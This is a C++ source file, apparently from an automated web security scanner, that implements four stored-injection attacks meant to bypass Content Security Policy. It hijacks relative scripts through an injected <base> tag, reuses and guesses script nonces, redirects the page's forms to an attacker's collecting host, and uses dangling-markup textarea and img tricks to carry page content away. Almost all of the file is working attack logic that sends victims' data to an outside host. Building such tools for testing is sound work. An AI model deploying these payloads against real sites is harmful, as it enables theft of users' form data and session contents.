// Injected markup that needs no script of its own to begin with:
//
//   xss-base      <base> turns the page's relative scripts into the attacker's (CSP base-uri)
//   xss-nonce     a script with the nonce of an earlier answer (a nonce is for one)
//   xss-form      a button or form that sends the page's own fields away (CSP form-action)
//   xss-dangling  an open quote or text area that swallows what follows (CSP img-src, form-action)
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/session.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"
#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

constexpr long kMostGuesses = 60;  // requests between the attacker's look and the victim's page

// The attacker's collecting address, or "" when he has no host.
std::string collecting_address(Target& target) {
    OwnHost* evil = foreign_host(target);
    if (evil == nullptr || target.victim() == nullptr) return {};
    evil->answer(evil->folder() + "c", {.status = 204});
    return address_on(*evil, "c");
}

class XssBase final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        OwnHost& evil = *foreign_host(target);
        StoredText text(target);
        std::size_t scripts = 0;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page)) {
                std::string const source = tag.attribute("src").value_or("");
                if (tag.name != "script" || source.empty() ||
                    source.find("//") != std::string::npos)
                    continue;
                ++scripts;
                std::string const path = source.substr(0, source.find('?'));
                evil.answer((path.starts_with('/') ? "" : "/") + path,
                            {.status = 200,
                             .headers = {{"content-type", "text/javascript"}},
                             .body = taking_script(target, address)});
            }
        target.note(std::to_string(scripts) + " scripts are named by relative addresses.");
        text.leave("<base href=" + in_quotes(address_on(evil, "")) + ">");
        victim_reads_and_loot_is_used(target);
    }
};

class XssNonce final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        StoredText text(target);
        std::vector<std::string> nonces;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page))
                if (auto const nonce = tag.attribute("nonce"); nonce && !nonce->empty())
                    if (nonces.empty() || nonces.back() != *nonce) nonces.push_back(*nonce);
        target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
        if (nonces.empty()) return;
        std::string const script = taking_script(target, address);
        std::string scripts;
        for (std::string const& nonce : worth_trying(nonces))
            scripts += "<script nonce=" + in_quotes(nonce) + ">" + script + "</script>";
        text.leave(scripts);
        victim_reads_and_loot_is_used(target);
    }

    // Those that were seen; and where they are numbers that count up, the next ones.
    static std::vector<std::string> worth_trying(std::vector<std::string> const& seen) {
        std::vector<std::string> all{seen.front()};
        if (seen.back() != seen.front()) all.push_back(seen.back());
        bool const are_numbers = std::all_of(seen.begin(), seen.end(), [](std::string const& each) {
            return each.size() < 10 && std::all_of(each.begin(), each.end(), ascii::is_digit);
        });
        long const last = are_numbers ? std::atol(seen.back().c_str()) : 0;
        for (long next = 1; are_numbers && next <= kMostGuesses; ++next)
            all.push_back(std::to_string(last + next));
        return all;
    }
};

class XssForm final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        StoredText text(target);
        std::string const away = in_quotes(address);
        std::vector<std::string> labels;
        std::string buttons;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page))
                if (auto const id = tag.attribute("id"); id && tag.name == "form") {
                    labels.push_back("Read more about " + random_word(target, 5));
                    buttons += "<button form=" + in_quotes(*id) + " formaction=" + away +
                               " formmethod=\"post\">" + labels.back() + "</button>";
                }
        if (!labels.empty()) text.leave(buttons);
        if (!victim_signs_in(target)) return;
        for (std::string const& label : labels) reads_and_clicks(target, label);
        // A form that stays open: the page's own form within it is none, and its fields are his.
        std::string const label = "Read more about " + random_word(target, 5);
        text.leave("<form method=\"post\" action=" + away + "><button>" + label + "</button>");
        reads_and_clicks(target, label);
        try_loot(target, received_texts(target));
    }

    static void reads_and_clicks(Target& target, std::string const& label) {
        for (std::string const& routine : routines_option(target, option::kDoes)) {
            (void)target.victim()->does(routine);
            (void)target.victim()->clicks(label);
        }
    }
};

class XssDangling final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        StoredText text(target);
        text.leave("<form method=\"post\" action=" + in_quotes(address) +
                   "><button>Read more</button><textarea name=\"t\">");
        victim_reads_and_loot_is_used(target);
        for (std::string_view quote : {"'", "\""}) {
            text.leave("<img src=" + std::string(quote) + address + "?");
            victim_reads_and_loot_is_used(target);
        }
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_base() { return std::make_unique<XssBase>(); }
std::unique_ptr<Agent> make_xss_nonce() { return std::make_unique<XssNonce>(); }
std::unique_ptr<Agent> make_xss_form() { return std::make_unique<XssForm>(); }
std::unique_ptr<Agent> make_xss_dangling() { return std::make_unique<XssDangling>(); }

}  // namespace parapet::attack
